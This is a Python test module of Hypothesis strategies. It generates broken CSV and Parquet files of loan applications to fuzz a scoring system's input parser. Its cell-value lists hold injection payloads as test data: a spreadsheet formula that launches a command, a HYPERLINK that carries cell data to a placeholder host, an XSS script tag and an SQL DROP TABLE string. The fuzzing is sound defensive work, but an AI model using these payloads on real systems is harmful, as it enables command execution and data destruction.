"""Files of applications that are broken in every way that files are broken in, as hypothesis draws them."""

from __future__ import annotations

import codecs
import gzip
import io
import zipfile
from collections.abc import Callable, Sequence
from contextlib import suppress
from functools import cache

import polars as pl
from hypothesis import strategies as st

from scoring.contract import ID
from scoring.sample import applications

Rows = list[list[str]]
POOL = 120

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"see")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
)
NUMBERS = (
    "1.234,56", "1,234.56", "1 234,56", "1 234.5", "1'234.5", "12,5", "12%", "€ 12", "12 €", "1_000", "0x10",
    "1e3", "1E+3", "1e-3", "1e999", "-1e999", "1e", "e5", ".5", "5.", "+5", "--5", "-0", "0", "-1", "1", "2",
    "0.1", "-0.5", "99999999999999999999", "1.7976931348623157e308", "5e-324",
    "0.1000000000000000055511151231257827", "123456.7899999999999999", "inf", "-inf", "Infinity", "nan", "NaN",
    "-nan", "NULL", "None", "N/A", "#N/A", "-",
    "true", "TRUE", "False", "2024-01-31", "31.01.2024", "12:30", "１２", "٣", "1\u00a0000", " 12 ", "\t7\t",
    "365243", "-365243", "2147483647", "2147483648", "4294967297", "9007199254740993", "16777217", "1d5", "1f",
    "0b1", "1/2", "1.5.2", "1..5", "1e5.5", "٫5", "²", "½", "\u200b5", "5\u200b", "\ufeff5",
)  # fmt: skip
WORDS = (
    "Space travel", "Employé", "данные", "申请人", "🙂", "\u2028", "\x1b[31mred", "a\rb", "a\nb", "a\r\nb",
    'say "hi"', '"', '""', "'", "\\", "\\N", ",", ";", "a,b", " Cash loans", "Cash loans ", "cash loans",
    "CASH LOANS", "Cash  loans", "<script>alert(1)</script>", "'; DROP TABLE credit.score; --", "%s %d {0}",
    "\x01\x02", "\x7f", "\x85", "\u00a0", "\u3000", "x" * 121, "y" * 5_000,
    "NA", "null", "<NA>", "nil", "Y", "y", "n", "yes", "No", "TRUE", "f", "1.0", "0", "1,5", "0,25", "1.234",
)  # fmt: skip

cells = st.one_of(
    st.sampled_from(NUMBERS),
    st.sampled_from(WORDS),
    st.sampled_from(FORMULAS),
    st.just(""),
    st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=8),
    st.floats().map(repr),
    st.integers(-(2**70), 2**70).map(str),
)


@cache
def pool() -> tuple[tuple[str, ...], tuple[tuple[str, ...], ...]]:
    """Header and rows of sound applications, as text."""
    frame = applications(POOL, seed=77, first_id=100_001).select(pl.all().cast(pl.String).fill_null(""))
    return tuple(frame.columns), tuple(frame.rows())


class File:
    """A file's name and bytes; no dataclass, because hypothesis would print all of them."""

    def __init__(self, name: str, content: bytes) -> None:
        self.name = name
        self.content = content

    @property
    def plain(self) -> bytes:
        """The CSV file inside. Raises OSError, EOFError, zlib.error or BadZipFile for a damaged archive."""
        if self.name.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(self.content)) as archive:
                return archive.read(archive.namelist()[0])
        return gzip.decompress(self.content) if self.name.endswith(".gz") else self.content

    def __repr__(self) -> str:
        return f"File({self.name!r}, {len(self.content)} bytes ending in {self.content[-300:]!r})"


def quoted(cell: str, style: str, separator: str) -> str:
    if style == "never":
        return cell
    special = any(mark in cell for mark in f'{separator.strip(" ")},"\r\n')
    return '"' + cell.replace('"', '""') + '"' if style == "always" or special else cell


def rendered(
    header: Sequence[str], rows: Rows, *, style: str = "needed", end: str = "\n", separator: str = ","
) -> str:
    lines = [separator.join(quoted(cell, style, separator) for cell in row) for row in (header, *rows)]
    return end.join(lines) + end


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], Rows]:
    """A header and rows with none, some or many cells, rows and columns broken."""
    header, rows = list(pool()[0]), [list(row) for row in pool()[1]]
    first = draw(st.integers(0, POOL - 40))
    rows = rows[first : first + draw(st.integers(1, 40))]
    for _ in range(draw(st.integers(0, 5))):
        change = draw(st.sampled_from(TABLE_CHANGES))
        change(draw, header, rows)
    return header, rows


def break_cell(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    row = rows[draw(st.integers(0, len(rows) - 1))]
    row[draw(st.integers(0, len(row) - 1))] = draw(cells)


def break_column(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    column, value = draw(st.integers(0, len(header) - 1)), draw(cells)
    for row in rows:
        row[min(column, len(row) - 1)] = value


def repeat_id(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    if ID not in header:
        return
    column = header.index(ID)
    # A row that was torn may end before it.
    rows = [row for row in rows if len(row) > column]
    if not rows:
        return
    source = rows[draw(st.integers(0, len(rows) - 1))][column]
    spelling = draw(st.sampled_from(("{}", " {}", "{} ", "{}.0", "0{}", "+{}", "{}e0", "{}.", "{}.5")))
    rows[draw(st.integers(0, len(rows) - 1))][column] = spelling.format(source)


def repeat_row(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    rows.insert(draw(st.integers(0, len(rows))), list(rows[draw(st.integers(0, len(rows) - 1))]))


def tear_row(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    row = rows[draw(st.integers(0, len(rows) - 1))]
    if draw(st.booleans()) and len(row) > 1:
        del row[draw(st.integers(1, len(row) - 1)) :]
    else:
        row.extend(draw(st.lists(cells, min_size=1, max_size=3)))


def rename_column(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    column = draw(st.integers(0, len(header) - 1))
    header[column] = draw(
        st.one_of(
            st.just(f" {header[column]} "),
            st.just(header[column].lower()),
            st.sampled_from(header),
            st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=6),
        )
    )


def respell_names(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    header[:] = [draw(st.sampled_from((str.lower, str.title, str.upper)))(name) for name in header]


def broken_then_right(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    row = rows[draw(st.integers(0, len(rows) - 1))]
    rows.append(list(row))
    row[draw(st.integers(1, len(row) - 1)) if len(row) > 1 else 0] = draw(cells)


def drop_column(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    column = draw(st.integers(0, len(header) - 1))
    for row in (header, *rows):
        del row[column : column + 1]


def add_column(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    column = draw(st.integers(0, len(header)))
    name, value = draw(st.sampled_from(("COMMENT", "TARGET", "", "#2", "AMT_CREDIT", "AMT_CREDIT#2"))), draw(cells)
    for row, cell in zip((header, *rows), (name, *[value] * len(rows)), strict=True):
        row.insert(column, cell)


def reorder(draw: st.DrawFn, header: list[str], rows: Rows) -> None:
    for row in (header, *rows):
        row.reverse()


Change = Callable[[st.DrawFn, list[str], Rows], None]
TABLE_CHANGES: tuple[Change, ...] = (
    break_cell, break_cell, break_cell, break_cell, break_cell, repeat_id, repeat_id, repeat_row, tear_row,
    break_column, rename_column, drop_column, add_column, reorder, respell_names, broken_then_right,
)  # fmt: skip


@st.composite
def csv_files(draw: st.DrawFn) -> File:
    """A table as CSV, and then its bytes broken, or not."""
    header, rows = draw(tables())
    end = draw(st.sampled_from(("\n", "\n", "\n", "\r\n", "\r\n", "\n\n", "\r\n\n", "\r", " \n")))
    separator = draw(st.sampled_from((",",) * 12 + (";", ";", "\t", "|", ", ")))
    style = draw(st.sampled_from(("needed", "needed", "needed", "always", "never")))
    if separator == ";" and draw(st.booleans()):
        rows = [[cell.replace(".", ",") for cell in row] for row in rows]
    text = rendered(header, rows, style=style, end=end, separator=separator)
    if len(separator) == 1 and draw(st.integers(0, 9)) == 0:
        text = f"sep={separator}{end}{text}"
    if draw(st.booleans()):
        text = text.rstrip("\r\n")
    content = text.encode()
    kind = draw(st.sampled_from(BYTE_CHANGES))
    content = kind(draw, content)
    if draw(st.integers(0, 9)) == 0:
        packed = gzip.compress(content, 1)
        if draw(st.integers(0, 2)) == 0:
            return File("applications.csv.gz", damaged(draw, packed))
        return File("applications.csv.gz", packed)
    if draw(st.integers(0, 9)) == 0:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("application_test.csv", content)
        packed = buffer.getvalue()
        return File("applications.csv.zip", damaged(draw, packed) if draw(st.integers(0, 2)) == 0 else packed)
    return File("applications.csv", content)


def damaged(draw: st.DrawFn, content: bytes) -> bytes:
    """Cut short, or some bytes changed."""
    if not content:
        return content
    if draw(st.booleans()):
        return content[: draw(st.integers(0, len(content) - 1))]
    changed = bytearray(content)
    for _ in range(draw(st.integers(1, 4))):
        changed[draw(st.integers(0, len(changed) - 1))] = draw(st.integers(0, 255))
    return bytes(changed)


def recoded(draw: st.DrawFn, content: bytes) -> bytes:
    encoding = draw(st.sampled_from(("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "utf-7")))
    return content.decode().replace("Working", "Employé").encode(encoding, errors="replace")


def with_bytes(draw: st.DrawFn, content: bytes) -> bytes:
    piece = draw(
        st.sampled_from((b"\x00", b"\x00\x00", b'"', b'""', b"\xff", b"\xc3", b"\xef\xbb\xbf", b"\r", b"\n", b","))
    )
    place = draw(st.integers(0, len(content)))
    return content[:place] + piece + content[place:]


def with_long_field(draw: st.DrawFn, content: bytes) -> bytes:
    size = draw(st.sampled_from((70_000, 140_000, 900_000, 1_100_000, 3_000_000)))
    place = content.find(b"Cash loans", draw(st.integers(0, len(content))))
    return content if place < 0 else content[:place] + b"z" * size + content[place:]


def emptied(draw: st.DrawFn, content: bytes) -> bytes:
    whole_header = content.split(b"\n", 1)[0]
    return draw(
        st.sampled_from(
            (b"", b"\n", b"\r\n\r\n", b" ", b",", b'"', b"\xef\xbb\xbf", whole_header, whole_header + b"\n\n")
        )
    )


def marked(_draw: st.DrawFn, content: bytes) -> bytes:
    return codecs.BOM_UTF8 + content


def blank_first(_draw: st.DrawFn, content: bytes) -> bytes:
    return b"\n" + content


def same(_draw: st.DrawFn, content: bytes) -> bytes:
    return content


BYTE_CHANGES: tuple[Callable[[st.DrawFn, bytes], bytes], ...] = (
    same, same, same, same, same, same, same, marked, with_bytes, with_bytes, damaged, recoded, with_long_field,
    emptied, blank_first,
)  # fmt: skip

ODD_TYPES = (
    pl.Date, pl.Datetime, pl.Time, pl.Duration, pl.Boolean, pl.Binary, pl.List(pl.Int64),
    pl.Struct({"a": pl.Int64}),
    pl.Int8, pl.Int16, pl.Int32, pl.Int64, pl.UInt64, pl.Float32, pl.Float64, pl.Decimal(20, 3), pl.String,
    pl.Categorical, pl.Null,
)  # fmt: skip


@st.composite
def parquet_files(draw: st.DrawFn) -> File:
    """Typed tables with odd types, doubtful numbers, missing columns, and then bytes broken, or not."""
    frame = applications(POOL, seed=77, first_id=100_001).head(draw(st.integers(1, 40)))
    for _ in range(draw(st.integers(0, 3))):
        name = draw(st.sampled_from(frame.columns))
        kind = draw(st.sampled_from(("type", "null", "drop", "value", "repeat", "control", "dictionary")))
        if kind == "type":
            odd = draw(st.sampled_from(ODD_TYPES))
            numbers = pl.Series(name, [draw(st.integers(0, 100))] * len(frame))
            try:
                frame = frame.with_columns(numbers.cast(odd, strict=False).alias(name))
            except pl.exceptions.PolarsError:
                frame = frame.with_columns(pl.lit(None, dtype=odd).alias(name))
        elif kind == "null":
            frame = frame.with_columns(pl.when(pl.int_range(pl.len()) > 2).then(pl.col(name)).alias(name))
        elif kind == "drop" and frame.width > 1:
            frame = frame.drop(name)
        elif kind == "value":
            value = draw(st.floats())
            frame = frame.with_columns(pl.lit(value).alias(name))
        elif kind == "control" and frame[name].dtype == pl.String:
            frame = frame.with_columns(pl.concat_str(pl.col(name), pl.lit("\x00\x1b")).alias(name))
        elif kind == "dictionary":
            # A duration, a list or a table in a cell has no text that could be in one.
            with suppress(pl.exceptions.PolarsError):
                frame = frame.with_columns(pl.col(name).cast(pl.String).cast(pl.Categorical))
        elif kind == "repeat":
            frame = pl.concat([frame, frame.head(1)])
    buffer = io.BytesIO()
    frame.write_parquet(buffer, compression="uncompressed")
    content = buffer.getvalue()
    if draw(st.integers(0, 3)) == 0:
        content = damaged(draw, content)
    return File("applications.parquet", content)


files = st.one_of(*[csv_files()] * 7, parquet_files())
